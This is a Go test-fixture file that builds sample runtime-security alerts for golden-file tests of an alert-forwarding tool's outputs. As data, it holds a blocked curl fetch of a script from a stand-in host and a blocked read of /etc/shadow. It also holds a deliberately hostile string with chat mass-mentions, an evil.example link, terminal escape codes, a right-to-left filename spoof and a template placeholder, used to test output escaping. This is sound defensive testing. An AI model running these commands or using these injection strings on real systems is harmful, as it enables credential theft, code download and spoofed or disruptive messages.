package outputtest

import (
	"encoding/json"
	"strings"
	"time"

	"github.com/sidearmor/sidearmor/schema"
)

// Case is an event that outputs are tried on.
type Case struct {
	Name  string
	Event schema.Event
}

// Cases are the events that every output has a golden file for. Each call makes
// new ones.
func Cases() []Case {
	return []Case{
		{"falco", Falco()},
		{"blocked-exec", BlockedExec()},
		{"blocked-file", BlockedFile()},
		{"audited-connect", AuditedConnect()},
		{"log", Log()},
		{"system-event", SystemEvent()},
		{"hostile", Hostile()},
		{"hostile-falco", HostileFalco()},
	}
}

// Falco is the event of FalcoSidekick's own tests, a number among its fields.
func Falco() schema.Event {
	return schema.Event{
		ID: "f-1", Received: received(), Kind: schema.KindFalco,
		Falco: &schema.FalcoEvent{
			UUID:     "b8f8e8a0-0f4d-4b63-8d3f-6a8f0f0c0a01",
			Output:   "This is a test from falcosidekick",
			Priority: schema.PriorityDebug,
			Rule:     "Test rule",
			Time:     time.Date(2001, 1, 1, 1, 10, 0, 0, time.UTC),
			Source:   "syscalls",
			Hostname: "test-host",
			Tags:     []string{"test", "example"},
			OutputFields: map[string]any{
				"proc.name": "falcosidekick",
				"proc.tty":  json.Number("1234"),
			},
		},
	}
}

// BlockedExec is an exec in a pod that a policy denied.
func BlockedExec() schema.Event {
	r := record()
	r.ParentProcessName, r.ProcessName = "/usr/sbin/nginx", "/usr/bin/curl"
	r.Source, r.Operation = "/bin/bash", schema.OperationProcess
	r.Resource, r.Data = "/usr/bin/curl http://203.0.113.9/x.sh", "syscall=SYS_EXECVE"
	r.EventData = map[string]string{"Syscall": "SYS_EXECVE"}
	r.Result = schema.ResultPermissionDenied
	return alert("a-1", schema.Alert{
		Record: r, PolicyName: "ksp-web-block-downloaders", Severity: "8",
		Tags: "MITRE,MITRE_T1105_ingress_tool_transfer", ATags: []string{"MITRE", "MITRE_T1105_ingress_tool_transfer"},
		Message: "a download tool was started", Enforcer: "SideArmor", Action: schema.ActionBlock,
	})
}

// BlockedFile is a read of a file that the default posture denied.
func BlockedFile() schema.Event {
	r := record()
	r.ParentProcessName, r.ProcessName = "/bin/bash", "/bin/cat"
	r.Source, r.Operation = "/bin/cat /etc/shadow", schema.OperationFile
	r.Resource, r.Data = "/etc/shadow", "syscall=SYS_OPENAT fd=-100 flags=O_RDONLY"
	r.Result = schema.ResultPermissionDenied
	return alert("a-2", schema.Alert{
		Record: r, PolicyName: schema.DefaultPosture, Enforcer: "SideArmor", Action: schema.ActionBlock,
	})
}

// AuditedConnect is a connection from an ECS task that was only reported.
func AuditedConnect() schema.Event {
	r := record()
	r.Owner = &schema.Owner{Ref: "Service", Name: "billing"}
	r.NamespaceName, r.PodName, r.ClusterName = "billing", "billing:7/4f1c0a6e9d0b4c7a8e55d1b2c3a4f5e6", "prod-ecs"
	r.ParentProcessName, r.ProcessName = "/bin/sh", "/usr/bin/python3.11"
	r.Source, r.Operation = "/usr/bin/python3.11 -m app", schema.OperationNetwork
	r.Resource, r.Data = "remoteip=203.0.113.9 port=443 protocol=TCP", "syscall=SYS_CONNECT fd=7"
	r.Result = schema.ResultPassed
	return alert("a-3", schema.Alert{
		Record: r, PolicyName: "ksp-billing-audit-egress", Severity: "3", Message: "connection out of the task",
		Enforcer: "SideArmor", Action: schema.ActionAudit,
	})
}

// Log is a file that was written where no policy matched.
func Log() schema.Event {
	r := record()
	r.Type = schema.TypeContainerLog
	r.ParentProcessName, r.ProcessName = "/bin/bash", "/usr/bin/tee"
	r.Source, r.Operation = "/usr/bin/tee /tmp/out", schema.OperationFile
	r.Resource, r.Data = "/tmp/out", "syscall=SYS_OPENAT fd=-100 flags=O_WRONLY|O_CREAT|O_TRUNC"
	r.Result = schema.ResultPassed
	return schema.Event{ID: "l-1", Received: received(), Kind: schema.KindLog, Log: &schema.Log{Record: r}}
}

// SystemEvent is what the tracer reports when it had to drop events.
func SystemEvent() schema.Event {
	r := record()
	r.Type, r.Operation = schema.TypeSystemEvent, schema.OperationAlertThreshold
	r.PID, r.PPID = 0, 0
	return alert("a-4", schema.Alert{
		Record: r, Message: "12 alerts and 340 logs were dropped: the sidekick could not be reached", Enforcer: "SideArmor",
	})
}

// Bad is text as an attacker would choose it: markup and mentions of every
// service, control characters, broken UTF-8, a changed direction.
const Bad = "<!channel> <@U012AB3CD> <!here|x> @everyone <@&42> [pay](https://evil.example) *b* _i_ ~s~ `c` ```d``` &amp; \x1b[2J\x00\r\n\t\u202egpj.exe \xff\xc3(\u2028\"\\'{{.Rule}}"

// Hostile is an alert whose every text is Bad and some of them long.
func Hostile() schema.Event {
	r := record()
	r.ClusterName, r.HostName, r.NamespaceName, r.PodName = Bad, Bad, Bad, Bad
	r.ContainerName, r.ContainerImage, r.Labels = Bad, Bad, Bad
	r.Owner = &schema.Owner{Ref: Bad, Name: Bad, Namespace: Bad}
	r.ParentProcessName, r.ProcessName = "/"+Bad, "/"+Bad
	r.Source, r.Operation = "/"+Bad, schema.OperationFile
	r.Resource = "/" + strings.Repeat(Bad, 20)
	r.Data, r.Cwd, r.TTY, r.UserName = Bad, Bad, Bad, Bad
	r.EventData = map[string]string{Bad: Bad}
	r.Result = Bad
	return alert("a-5", schema.Alert{
		Record: r, PolicyName: Bad, Severity: Bad, Tags: Bad, ATags: []string{Bad, Bad},
		Message: strings.Repeat(Bad, 30), Enforcer: Bad, Action: schema.ActionBlock,
	})
}

// HostileFalco is a Falco event whose every text is Bad, with more fields than
// services take, and fields of every type.
func HostileFalco() schema.Event {
	e := Falco()
	f := e.Falco
	f.Output, f.Rule, f.Source, f.Hostname = strings.Repeat(Bad, 40), Bad, Bad, Bad
	f.Tags = []string{Bad, "@here"}
	f.Priority = schema.PriorityCritical
	f.OutputFields = map[string]any{
		"": Bad, "empty": "", "nil": nil, "true": true, "number": json.Number("3.5"),
		"list": []any{Bad, json.Number("1")}, "object": map[string]any{Bad: Bad}, Bad: Bad,
	}
	for _, c := range "abcdefghijklmnopqrstuvwxyz" {
		f.OutputFields["field."+string(c)] = Bad
	}
	return e
}

// Oversized are events with texts of 1 MiB, and with none at all.
func Oversized() []Case {
	big := strings.Repeat("\u202eé<\"\\", 1<<20/8)
	alertBig := Hostile()
	a := alertBig.Alert
	a.Resource, a.Message, a.PolicyName = big, big, big
	falcoBig := HostileFalco()
	f := falcoBig.Falco
	f.Output, f.Tags = big, []string{big}
	f.OutputFields[big] = big
	many := Falco()
	for i := range 3000 {
		many.Falco.OutputFields[strings.Repeat("k", i%50)+string(rune('a'+i%26))+strings.Repeat("x", i/50)] = strings.Repeat("v", 300)
	}
	return []Case{
		{"alert of 3 MiB", alertBig},
		{"Falco event of 4 MiB", falcoBig},
		{"Falco event of 3000 fields", many},
		{"empty alert", alert("a-6", schema.Alert{})},
		{"empty log", schema.Event{ID: "l-2", Received: received(), Kind: schema.KindLog, Log: &schema.Log{}}},
		{"empty Falco event", schema.Event{ID: "f-2", Received: received(), Kind: schema.KindFalco, Falco: &schema.FalcoEvent{}}},
	}
}

func alert(id string, a schema.Alert) schema.Event {
	return schema.Event{ID: id, Received: received(), Kind: schema.KindAlert, Alert: &a}
}

func received() time.Time { return time.Date(2026, 3, 4, 5, 6, 8, 0, time.UTC) }

// record is a container in a pod; the operation is to be filled in.
func record() schema.Record {
	return schema.Record{
		Origin: schema.Origin{
			ClusterName: "prod", HostName: "ip-10-0-1-2.ec2.internal", NodeID: "node-1", NamespaceName: "shop",
			Owner:   &schema.Owner{Ref: "Deployment", Name: "web", Namespace: "shop"},
			PodName: "web-7d5b9c6f4-x2x8k", Labels: "app=web,tier=front",
			ContainerID:   "4771ac3e5f0e0b5c7f2f4a9c6d2b1e8f7a6c5d4e3b2a19080706050403020100",
			ContainerName: "nginx", ContainerImage: "registry.example/web:1.4@sha256:8c94",
		},
		Timestamp: 1772600767, UpdatedTime: "2026-03-04T05:06:07.123456Z",
		HostPPID: 41, HostPID: 42, PPID: 41, PID: 42, UID: 33,
		Type: schema.TypeMatchedPolicy, Cwd: "/", TTY: "pts0",
		ExecEvent: &schema.ExecEvent{ExecID: "0", ExecutableName: "bash"},
	}
}
